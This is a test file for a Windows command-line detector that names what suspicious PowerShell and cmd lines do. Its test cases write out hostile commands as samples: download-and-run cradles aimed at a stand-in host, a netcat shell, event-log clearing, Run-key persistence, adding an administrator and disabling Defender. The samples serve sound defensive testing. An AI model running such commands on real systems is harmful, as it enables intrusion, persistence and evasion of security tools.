import { describe, expect, test } from 'vitest';
import {
  deedsOfCommandLine,
  deedsOfPowerShell,
  excerpt,
  joined,
} from '../../src/consumers/deeds.ts';

const encode = (text: string): string => Buffer.from(text, 'utf16le').toString('base64');

describe('what a command line does', () => {
  test.each<[string, readonly string[]]>([
    ['powershell -w hidden -c Get-Date', ['hides its window']],
    [
      'cmd /c powershell -nop "IEX (New-Object Net.WebClient).DownloadString(\'http://a.example/x\')"',
      ['runs text as code', 'downloads (http://a.example/x)'],
    ],
    [
      `powershell -e ${encode('iex $x')}`,
      ['runs an encoded command that reads "iex $x", which runs text as code'],
    ],
    ['powershell -enc BASE64PAYLOAD', ['runs an encoded command that cannot be decoded here']],
    ['certutil -urlcache -f http://a.example/x x.exe', ['downloads with certutil']],
    ['mshta http://a.example/x.hta', ['runs code that mshta fetches or is given']],
    [
      'regsvr32 /s /n /u /i:http://a.example/x scrobj.dll',
      ['runs a scriptlet that regsvr32 fetches'],
    ],
    ['nc.exe -lvp 4444 -e cmd.exe', ['connects a shell to another computer (netcat)']],
    ['net localgroup administrators a /add', ['adds a member to a group']],
    ['wevtutil cl Security', ['clears an event log']],
    [
      'reg add HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run /v a',
      ['writes to a Run key of the registry'],
    ],
  ])('%j: %j', (line, expected) => {
    expect(deedsOfCommandLine(line).map(({ does }) => does)).toEqual(expected);
  });

  test.each([
    ['powershell.exe -NoProfile -File "C:\\Program Files\\V\\a.ps1"'],
    ['cmd.exe /c net use'],
    ['net user'],
    ['certutil -store My'],
    ['inc.exe -e x'],
    ['sync -enc x'],
    ['"C:\\Program Files\\V\\a.exe" -w hidden'],
  ])('%j is nothing to speak of', (line) => {
    expect(deedsOfCommandLine(line)).toEqual([]);
  });

  test('that many good ones do is a minor matter', () => {
    expect(deedsOfCommandLine('powershell -ep bypass -File C:\\a.ps1')).toMatchObject([
      { does: 'switches off the execution policy', minor: true },
    ]);
  });

  test('is read with ExecutablePath', () => {
    const line = 'x -w hidden';
    expect(deedsOfCommandLine(line)).toEqual([]);
    expect(deedsOfCommandLine(line, 'C:\\a\\powershell.exe')).toHaveLength(1);
  });
});

test('PowerShell code is read for what it does', () => {
  const code =
    '[Reflection.Assembly]::Load([Convert]::FromBase64String($x)); Set-MpPreference -X 1';
  expect(deedsOfPowerShell(code).map(({ does }) => does)).toEqual([
    'loads code into memory',
    'unpacks hidden text or code',
    'switches off Windows Defender',
  ]);
});

test('texts for messages are short and on one line', () => {
  expect(excerpt(' a\n\tb ')).toBe('a b');
  expect(excerpt('x'.repeat(500), 10)).toBe('xxxxxxxxxx...');
  expect([joined([]), joined(['a']), joined(['a', 'b']), joined(['a', 'b', 'c'])]).toEqual([
    '',
    'a',
    'a and b',
    'a, b and c',
  ]);
});
